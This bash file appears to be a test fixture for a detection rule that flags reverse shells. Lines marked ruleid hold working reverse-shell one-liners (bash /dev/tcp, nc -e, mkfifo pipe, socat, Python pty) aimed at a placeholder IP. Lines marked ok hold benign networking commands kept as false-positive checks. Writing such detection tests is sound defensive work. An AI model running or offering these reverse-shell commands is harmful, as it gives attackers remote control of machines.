#!/bin/bash
# Launcher-style cases for egress-shell-reverse-shell (issue #16).

# ruleid: egress-shell-reverse-shell
bash -i >& /dev/tcp/203.0.113.7/4444 0>&1 &
# ruleid: egress-shell-reverse-shell
exec 3>/dev/tcp/"$METRICS_HOST"/9000
# ruleid: egress-shell-reverse-shell
nc -e /bin/bash 203.0.113.7 4444 &
# ruleid: egress-shell-reverse-shell
rm -f /tmp/.p; mkfifo /tmp/.p; cat /tmp/.p | /bin/sh -i 2>&1 | nc 203.0.113.7 4444 > /tmp/.p
# ruleid: egress-shell-reverse-shell
socat TCP:203.0.113.7:4444 EXEC:/bin/bash,pty,stderr &
# ruleid: egress-shell-reverse-shell
python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.7",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("bash")'

# ok: egress-shell-reverse-shell
while ! nc -z "$MASTER_ADDR" "$MASTER_PORT"; do sleep 1; done
# ok: egress-shell-reverse-shell
nc -zv "$MASTER_ADDR" 29500
# ok: egress-shell-reverse-shell
socat TCP-LISTEN:6006,fork TCP:localhost:6007 &
# ok: egress-shell-reverse-shell
python3 -c 'import socket; print(socket.gethostname())'
# ok: egress-shell-reverse-shell
torchrun --rdzv-endpoint="$MASTER_ADDR:29500" train.py
# Issue #16: a variable named nc in a test (Kaldi's compute_cmvn_stats.sh).
# ok: egress-shell-reverse-shell
if [ $nc -ne $nu ]; then echo "$0: warning: only $nu of $nc utterances done"; fi
# ok: egress-shell-reverse-shell
[ "${nc}" -ge 1 ] && echo ok
# ruleid: egress-shell-reverse-shell
nc=nc; $nc -e /bin/sh 203.0.113.7 4444 &
